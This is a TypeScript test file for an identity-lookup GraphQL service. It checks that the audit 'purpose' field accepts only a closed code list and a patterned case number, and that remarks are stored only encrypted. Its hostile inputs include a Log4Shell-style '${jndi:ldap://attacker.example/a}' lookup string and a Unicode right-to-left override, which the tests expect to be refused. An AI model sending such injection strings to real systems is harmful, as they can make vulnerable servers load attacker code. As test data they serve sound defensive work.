import { sql } from '@jingtong/kit';
import { OfficerKit } from '../../kit/officers.js';
import type { HostileArea } from '../hostile-world.js';

const LOOKUP = `query($id: String!, $r: RevealInput) { citizenByIdNumber(idNumber: $id) { id idNumber(reveal: $r) } }`;

/**
 * Issue 7 item 10: the reveal purpose was free text stored in clear in `audit_log.purpose` (an ID number typed
 * there, an RTL override, `${jndi:…}` were all kept). Now a code from a closed list and an optional patterned case
 * number are all that is stored in clear; a remark is kept only encrypted.
 */
export const revealPurpose: HostileArea = {
  title: 'reveal purpose: closed list, patterned case number, remark encrypted (item 10)',
  define(world) {
    // One kit: its demo tokens are reused (a second sign-in in the same 30 s would replay the TOTP code).
    let kit: OfficerKit;
    beforeAll(() => {
      kit = new OfficerKit(world.stack);
    });
    it('refuses free text, an ID number, a bidi override and a JNDI lookup as purpose or case number, writing nothing', async () => {
      const { stack } = world;
      const person = stack.legacy.seed.persons.filter((p) => !stack.legacy.seed.fugitives().includes(p.idNumber)).at(-3)!;
      await stack.signIn(person.idNumber);
      const window = await kit.demo('window01');
      const before = await disclosures(world);
      const jndi = ['$', '{jndi:ldap://attacker.example/a}'].join('');
      // Free text as the purpose is no longer a value the schema accepts.
      const typed = await stack.graphql(LOOKUP, { id: person.idNumber, r: { purpose: `受理 ${person.idNumber}` } }, window);
      expect(typed.body.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
      expect(JSON.stringify(typed.body)).not.toContain(person.idNumber);
      for (const caseNumber of [person.idNumber, `XC\u202e20261128`, jndi, person.phone, 'XC2026 1128']) {
        const refused = await stack.graphql(LOOKUP, { id: person.idNumber, r: { purpose: 'CASE_HANDLING', caseNumber } }, window);
        expect(refused.body.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'caseNumber' });
      }
      const bidiNote = await stack.graphql(LOOKUP, { id: person.idNumber, r: { purpose: 'CASE_HANDLING', note: '核对\u202e材料' } }, window);
      expect(bidiNote.body.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'note' });
      expect(await disclosures(world)).toEqual(before);
    });

    it('stores the code and case number only, and a remark only encrypted', async () => {
      const { stack } = world;
      const person = stack.legacy.seed.persons.filter((p) => !stack.legacy.seed.fugitives().includes(p.idNumber)).at(-4)!;
      await stack.signIn(person.idNumber);
      const window = await kit.demo('window01');
      const note = `核对 ${['$', '{jndi:ldap://x/a}'].join('')} ${person.idNumber}`;
      const shown = await stack.graphql(LOOKUP, { id: person.idNumber, r: { purpose: 'IDENTITY_VERIFICATION', caseNumber: 'xc20261128-0002', note } }, window);
      expect(shown.body.errors).toBeUndefined();
      expect(shown.body.data.citizenByIdNumber.idNumber).toBe(person.idNumber);
      const [row] = (await disclosures(world)).filter((r) => r.target_id === shown.body.data.citizenByIdNumber.id);
      expect(row.purpose).toBe('IDENTITY_VERIFICATION XC20261128-0002');
      const sealed = JSON.parse(row.details!).note as string;
      expect(stack.identityDeps.cipher.decrypt(sealed)).toBe(note);
      const { rows } = await sql<{ row: string }>`select row_to_json(a)::text as row from audit_log a`.execute(stack.identityDeps.database.db);
      for (const { row: text } of rows) {
        expect(text).not.toContain('jndi');
        expect(text).not.toContain(person.idNumber);
      }
    });
  },
};

async function disclosures(world: { stack: { identityDeps: { database: { db: any } } } }) {
  const { rows } = await sql<{ target_id: string | null; purpose: string | null; details: string | null }>`
    select target_id, purpose, details from audit_log where action = 'DISCLOSURE' order by id`.execute(world.stack.identityDeps.database.db);
  return rows;
}
